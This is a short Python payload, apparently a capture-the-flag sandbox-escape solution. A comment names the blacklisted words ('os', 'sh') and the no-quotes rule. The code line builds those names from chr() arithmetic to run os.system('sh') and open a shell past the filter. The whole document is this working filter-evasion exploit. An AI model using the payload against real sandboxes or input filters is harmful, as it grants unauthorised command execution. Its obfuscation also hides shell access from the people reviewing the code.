# restriction: no quotes, words os/sh blacklisted; idea: build every name with chr() of small arithmetic expressions
__import__(chr(0x6f)+chr(0x73)).system(chr(99+16)+chr(52*2))
